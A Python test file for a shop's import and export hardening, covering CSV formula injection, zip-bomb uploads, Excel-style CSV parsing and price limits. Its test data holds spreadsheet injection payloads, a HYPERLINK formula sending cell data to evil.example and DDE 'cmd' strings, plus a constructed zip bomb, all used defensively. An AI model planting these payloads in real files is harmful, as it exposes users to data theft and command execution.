"""Issue 11, hardening of the import and its files: no live formulas in what the shop writes, no zip
bomb through the import, standard CSV read as Excel and LibreOffice write it, prices that fit."""

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st

from shop.catalog.models import MAX_PRICE
from shop.imports import jobs as product_import
from shop.imports import spreadsheets
from shop.imports.report import report_rows
from shop.models import Product, ProductImport
from tests import factories
from tests.factories import IMPORT_HEADERS, import_row, product_sheet
from tests.helpers import IMPORT_URL, workbook

pytestmark = pytest.mark.django_db

# What a buyer, a supplier's file or a careless copy-paste can put in a name.
RISKY_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A2,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=sudah diberi apostrof",
    "''+dua apostrof",
]


def csv_rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def report(job, status=None):
    rows, _count = report_rows(job, status=status, limit=10_000)
    return {row["row"]: row for row in rows}


def form_errors(response):
    assert response.status_code == 200, "a refused file stays on the form"
    return " ".join(response.context["form"].errors.get("file", []))


def risky_products():
    category = factories.category('=HYPERLINK("http://evil.example","Kaos")')
    return [
        factories.product(sku=f"R-{n}", name=name, category=category, price=10_000 + n, stock=n)
        for n, name in enumerate(RISKY_NAMES, 1)
    ]


# --- 1. Formula injection -------------------------------------------------------------------


def test_product_csv_export_writes_risky_text_with_a_leading_apostrophe(admin_client):
    risky_products()
    factories.product(sku="+6281234567", name="-5", price=7_000)

    rows = csv_rows(admin_client.get(f"{IMPORT_URL}ekspor/?format=csv"))

    by_sku = {row[0]: row for row in rows[1:]}
    for n, name in enumerate(RISKY_NAMES, 1):
        row = by_sku[f"R-{n}"]
        assert row[1] == "'" + name, "the name is shown as text, not run"
        assert row[2] == '\'=HYPERLINK("http://evil.example","Kaos")'
        assert row[3] == str(10_000 + n), "numbers are written as they are"
    assert by_sku["+6281234567"][1:4] == ["-5", "", "7000"], "a signed number is data, not a formula"


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_exported_risky_names_import_back_unchanged(admin_client, admin_user, export_format):
    risky_products()
    before = list(Product.objects.order_by("sku").values())
    response = admin_client.get(f"{IMPORT_URL}ekspor/?format={export_format}")
    upload = SimpleUploadedFile(f"produk.{export_format}", b"".join(response.streaming_content))

    job = factories.product_import(upload, admin_user)
    assert (job.total_rows, job.unchanged_rows) == (len(RISKY_NAMES), len(RISKY_NAMES)), report(job)
    job = factories.confirmed_import(job)

    assert job.status == ProductImport.Status.DONE
    assert list(Product.objects.order_by("sku").values()) == before


def test_product_xlsx_export_stores_risky_text_as_text(admin_client):
    risky_products()
    sheet = workbook(admin_client.get(f"{IMPORT_URL}ekspor/"))["Produk"]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for n, name in enumerate(RISKY_NAMES, 1):
        name_cell, category_cell = cells[f"R-{n}"][1], cells[f"R-{n}"][2]
        assert (name_cell.value, name_cell.data_type) == (name, "s")
        assert category_cell.data_type == "s", "a formula in a cell is run when the file is opened"
    assert cells["R-1"][3].data_type == "n", "prices stay numbers"


def test_template_example_category_is_text(admin_client):
    factories.category("=Makanan Ringan")  # the example product is a snack, put in the shop's snack category
    sheet = workbook(admin_client.get(f"{IMPORT_URL}templat/"))["Produk"]
    cell = sheet.cell(row=2, column=IMPORT_HEADERS.index("category") + 1)
    assert (cell.value, cell.data_type) == ("=Makanan Ringan", "s")


def test_problems_report_is_text(admin_client, admin_user):
    # From a CSV: an .xlsx cell holding "=1+1" is a formula, which the import reads as empty.
    job = factories.product_import(product_sheet([import_row("=1+1", price="=2+2")], name="produk.csv"), admin_user)
    sheet = workbook(admin_client.get(f"{IMPORT_URL}{job.pk}/masalah.xlsx"))["Produk"]
    sku_cell = sheet.cell(row=2, column=2)
    assert (sku_cell.value, sku_cell.data_type) == ("=1+1", "s")


@given(st.text())
def test_csv_escaping_reads_back_as_it_was(text):
    assert spreadsheets.csv_text(spreadsheets.csv_cell(text)) == text


@pytest.mark.parametrize("value", [-5, Decimal("-1.5"), 0, None, "-5", "+6281234567", "-1.250.000,00", "Kaos", ""])
def test_csv_escaping_leaves_numbers_and_plain_text_alone(value):
    assert spreadsheets.csv_cell(value) == value


def test_product_listing_csv_download_writes_risky_text_with_a_leading_apostrophe(admin_client):
    risky_products()
    rows = csv_rows(admin_client.get("/admin/snippets/shop/product/?export=csv"))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + name for name in RISKY_NAMES}


# --- 2. Zip bombs ---------------------------------------------------------------------------


def with_part(xlsx, name, content):
    """The workbook `xlsx` (bytes) with one more part, declared as its shared strings."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
                )
            elif item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdBom" Target="sharedStrings.xml" Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/sharedStrings"/></Relationships>',
                )
            target.writestr(item, data, zipfile.ZIP_DEFLATED)
        target.writestr(name, content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_parsed(admin_client):
    # 16 MB of one letter packs into about 16 KB: the 0.31 MB file of the report, scaled down.
    strings = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
    strings += b"A" * (16 * 1048576) + b"</t></si></sst>"
    bomb = with_part(product_sheet([import_row("A-1")]).read(), "xl/sharedStrings.xml", strings)
    assert len(bomb) < 100_000

    message = form_errors(admin_client.post(IMPORT_URL, {"file": SimpleUploadedFile("produk.xlsx", bomb)}))

    assert "tidak wajar" in message and "xl/sharedStrings.xml" in message
    assert not ProductImport.objects.exists()


def test_a_workbook_larger_unpacked_than_the_limit_is_refused(admin_client, monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", 100_000)
    rows = [import_row(f"SKU-{n:05d}", f"Produk nomor {n}", description=f"Deskripsi {n}") for n in range(400)]
    sheet = product_sheet(rows)

    message = form_errors(admin_client.post(IMPORT_URL, {"file": sheet}))

    assert "terlalu besar setelah dibuka" in message
    assert not ProductImport.objects.exists()


def test_the_largest_file_the_row_limit_allows_fits_the_unpacked_limit():
    """Rows as bench/import/run.py writes them (an owner's filled template), 2,000 of them,
    scaled to PRODUCT_IMPORT_MAX_ROWS: the limit must leave room for them."""
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("Produk")
    sheet.append(IMPORT_HEADERS)
    for n in range(1, 2001):
        price = 10_000 + (n % 500) * 1_000
        sheet.append(
            [
                f"SKU-{n:06d}",
                f"Produk nomor {n} ukuran {'SML'[n % 3]}",
                f"Kategori {n % 20}",
                price,
                price + 5_000 if n % 4 == 0 else None,
                100 + n % 900,
                n % 50,
                "ya" if n % 10 else "tidak",
                f"Deskripsi produk {n}. Bahan bagus, nyaman dipakai.",
            ]
        )
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(out) as archive:
        part = archive.getinfo("xl/worksheets/sheet1.xml")
    assert part.file_size * (product_import.MAX_ROWS / 2000) * 2 < spreadsheets.MAX_UNPACKED_BYTES
    assert part.file_size / part.compress_size * 3 < spreadsheets.MAX_PACKING_RATIO


# --- 3. CSV as Excel and LibreOffice write it -----------------------------------------------


@pytest.mark.parametrize("bom", ["", "\ufeff"])
def test_csv_with_doubled_quotes_quoted_commas_and_newlines(admin_user, bom):
    content = (
        bom + "sku,name,price,description\r\n"
        'K-1,"Kaos ""Premium"", 30s",150000,"Baris satu,\r\nbaris dua"\r\n'
        'K-2,Topi,"Rp 85.000",\r\n'
    ).encode()
    job = factories.confirmed_import(factories.product_import(SimpleUploadedFile("produk.csv", content), admin_user))

    assert job.status == ProductImport.Status.DONE, report(job)
    kaos = Product.objects.get(sku="K-1")
    assert (kaos.name, kaos.price, kaos.description) == (
        'Kaos "Premium", 30s',
        150_000,
        "<p>Baris satu,<br/>baris dua</p>",
    )
    assert Product.objects.get(sku="K-2").price == 85_000


@pytest.mark.parametrize("bom", ["", "\ufeff"])
def test_semicolon_csv_from_indonesian_excel(admin_user, bom):
    content = (
        bom + "SKU;Nama;Harga;Harga coret;Deskripsi\r\n"
        'K-1;"Kopi; ""Gayo"" 250 g";Rp 85.000;"Rp 90.000,-";"Biji pilihan.\r\n\r\nSangrai sedang."\r\n'
        "K-2;Teh Melati Café;12.500;;\r\n"
    ).encode()
    job = factories.confirmed_import(factories.product_import(SimpleUploadedFile("produk.csv", content), admin_user))

    assert job.status == ProductImport.Status.DONE, report(job)
    kopi = Product.objects.get(sku="K-1")
    assert (kopi.name, kopi.price, kopi.compare_at_price) == ('Kopi; "Gayo" 250 g', 85_000, 90_000)
    assert kopi.description == "<p>Biji pilihan.</p><p>Sangrai sedang.</p>"
    assert Product.objects.get(sku="K-2").name == "Teh Melati Café"


def test_csv_row_numbers_are_those_excel_shows(admin_user):
    content = b'sku,name,price\r\nK-1,"Dua\r\nbaris",1000\r\nK-2,Kaos,harga\r\n'
    job = factories.product_import(SimpleUploadedFile("produk.csv", content), admin_user)
    assert list(report(job, status="error")) == [3], "a quoted line break stays inside its row"


# --- 4. Prices that fit ---------------------------------------------------------------------


def test_a_price_above_the_highest_is_refused_for_that_row(admin_user):
    rows = [
        import_row("OK-1", price=MAX_PRICE, compare_at_price=MAX_PRICE),
        import_row("MAHAL-1", price=MAX_PRICE + 1),
        import_row("MAHAL-2", price="Rp 1.000.000.000.000", compare_at_price=2**62),
    ]
    job = factories.product_import(product_sheet(rows), admin_user)

    errors = {number: row.get("errors") for number, row in report(job).items()}
    too_big = "Terlalu besar (paling banyak 999.999.999.999 rupiah)."
    assert errors == {
        2: None,
        3: [["price", too_big]],
        4: [["price", too_big], ["compare_at_price", too_big]],
    }
    assert not job.can_confirm
